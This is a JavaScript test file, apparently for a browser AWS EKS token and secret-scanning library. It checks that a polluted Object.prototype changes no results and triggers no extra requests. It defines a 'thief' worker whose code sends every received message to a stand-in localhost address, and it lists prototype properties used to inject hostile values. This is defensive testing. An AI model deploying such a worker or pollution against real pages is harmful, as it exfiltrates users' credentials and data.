// A host page with a polluted Object.prototype, as by a careless merge of JSON:
// nothing in it becomes an option, a credential or a message.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { openBench, startBench } from "./lib/bench.js";
import { launch, present } from "./lib/engines.js";
import { request } from "./lib/samples.js";

// A worker that would answer everything, if it were started.
const thief =
  "data:text/javascript," +
  encodeURIComponent("onmessage = ({ data }) => fetch('http://localhost:1/' + encodeURIComponent(JSON.stringify(data))); postMessage({ state: 'ready' });");

/** All names that the module, or the browser on its behalf, may read, with values of the right type. */
const names = {
  worker: [thief, "/worker.js?polluted", { state: "ready" }],
  wasm: ["/polluted.wasm", [0, 97, 115, 109, 1, 0, 0, 0], {}],
  baseURL: ["/polluted/", 7],
  integrity: ["sha256-AAAA"],
  credentials: [{ accessKeyId: "AKIAIOSFODNN7POLLUTE", secretAccessKey: "polluted" }],
  Credentials: [{ AccessKeyId: "AKIAIOSFODNN7POLLUTE" }],
  accessKeyId: ["AKIAIOSFODNN7POLLUTE"],
  AccessKeyId: ["AKIAIOSFODNN7POLLUTE"],
  secretAccessKey: ["polluted"],
  SecretAccessKey: ["polluted"],
  SecretKey: ["polluted"],
  sessionToken: ["polluted"],
  SessionToken: ["polluted"],
  expiration: ["2020-01-01T00:00:00Z"],
  Expiration: ["2020-01-01T00:00:00Z"],
  clusterName: ["polluted"],
  clusterNames: [["polluted"]],
  region: ["us-east-1"],
  endpoint: ["global"],
  expires: [900],
  signingTime: ["2020-01-01T00:00:00Z"],
  fresh: [true],
  inParts: [false, 7],
  first: ["/polluted.wasm"],
  signal: [{ aborted: true }],
  onProgress: [7],
  source: ["polluted"],
  number: [1],
  info: [{}],
  plan: [7],
  now: ["2020-01-01T00:00:00Z"],
  partition: ["aws-cn"],
  token: [1],
  text: ["polluted"],
  state: ["crashed", "failed", "ready"],
  build: ["polluted"],
  module: [{}],
  ok: [false, true],
  value: ["polluted"],
  error: [{ code: "internal", message: "polluted", field: "" }],
  method: ["POST"],
  body: ["polluted"],
  mode: ["no-cors"],
  credentialless: [true],
  cache: ["no-store"],
  redirect: ["error"],
  headers: [{ "X-Polluted": "yes" }],
  referrer: ["http://localhost:1/"],
  type: ["module"],
  name: ["polluted"],
  transfer: [[]],
  cause: ["polluted"],
  createScriptURL: ["polluted"],
  toJSON: ["polluted"],
  rest: ["polluted"],
  get: ["polluted"],
  0: ["polluted"],
  __ekstoken: ["polluted"],
  entry: [{}],
  signal: [{}],
  start: ["polluted"],
  pull: ["polluted"],
  cancel: ["polluted"],
  size: ["polluted"],
  highWaterMark: [-1],
  path: ["polluted"],
  problem: ["polluted"],
  base64: [true],
};

for (const { id, name } of present) {
  describe(`${name}: a polluted Object.prototype`, () => {
    let host, browser, page;
    before(async () => {
      host = await startBench();
      browser = await launch(id);
      page = await openBench(browser, host);
    });
    after(async () => {
      await browser?.close();
      await host?.close();
    });

    /** Calls everything, with these properties on Object.prototype; returns the results and errors as text. */
    const answers = (polluted, given = request) =>
      page.evaluate(
        async (polluted, request) => {
          const own = JSON.parse(polluted);
          const packed = await new Response(new Blob([`x ${request.credentials.accessKeyId}`]).stream().pipeThrough(new CompressionStream("gzip"))).blob();
          for (const name of Object.keys(own)) Object.prototype[name] = own[name];
          const answers = [];
          const add = async (promise) => {
            try {
              answers.push([true, await promise]);
            } catch (error) {
              answers.push([false, error.code ?? String(error), error.message, error.field, String(Object.hasOwn(error, "cause") && error.cause)]);
            }
          };
          try {
            const eks = await ekstoken.load();
            await add(eks.getToken(request));
            await add(eks.getToken({ ...request, credentials: async () => request.credentials }));
            await add(eks.inspect("k8s-aws-v1.aHR0cHM6Ly9zdHM", { now: "2026-01-02T03:05:00Z", clusterName: ["one", "two"] }));
            await add(eks.recognize("export AWS_ACCESS_KEY_ID=ASIAIOSFODNN7EXAMPLE", { now: "2026-01-02T03:05:00Z" }));
            await add(eks.getToken({ ...request, credentials: undefined }));
            await add(eks.getToken({ credentials: { accessKeyId: request.credentials.accessKeyId }, clusterName: "x" }));
            const secrets = `x ${request.credentials.accessKeyId} ${request.credentials.secretAccessKey}`;
            await add(eks.redact(secrets).then((redaction) => redaction.text()));
            await add(
              (async () => {
                const hits = [];
                for await (const hit of eks.scan(packed, { now: "2026-01-02T03:05:00Z" })) hits.push({ ...hit });
                return hits;
              })(),
            );
            eks.close();
          } catch (error) {
            answers.push([false, error.code ?? String(error), error.message]);
          } finally {
            for (const name of Object.keys(own)) delete Object.prototype[name];
          }
          return JSON.stringify(answers);
        },
        JSON.stringify(polluted),
        given,
      );

    test("changes no answer, and adds no request", async () => {
      const clean = await answers({});
      assert.equal(JSON.parse(clean).filter(([good]) => good).length, 6, clean);
      host.served.length = 0;
      await answers({});
      const asked = [...new Set(host.served.map(({ method, path }) => `${method} ${path}`))];
      for (const [property, values] of Object.entries(names)) {
        for (const value of values) {
          host.served.length = 0;
          const got = await answers({ [property]: value });
          assert.ok(got === clean, `${property}: ${JSON.stringify(value)}: ${got.slice(0, 300)}`);
          for (const { method, path } of host.served) assert.ok(asked.includes(`${method} ${path}`), `${property}: ${method} ${path}`);
        }
      }
    });

    test("takes no part in what is given on purpose", async () => {
      const { worker, own } = await page.evaluate(async () => {
        const error = async (options) => (await outcome(ekstoken.load(options))).code;
        const policy = globalThis.trustedTypes?.createPolicy("test", { createScriptURL: (url) => url }) ?? { createScriptURL: (url) => url };
        const inherited = Object.create({
          worker: () => {
            throw new Error("called");
          },
          nothing: 1,
        });
        return {
          worker: [
            await error({ worker: "/worker.js" }),
            await error({ worker: () => ({ postMessage() {} }) }),
            await error({ worker: () => new Worker(policy.createScriptURL("/other-worker.js")) }),
          ],
          own: await ekstoken
            .load(inherited)
            .then((eks) => eks.version())
            .then(() => "made"),
        };
      });
      assert.deepEqual(worker, ["invalid", "load", "load"]);
      assert.equal(own, "made");
    });
  });
}
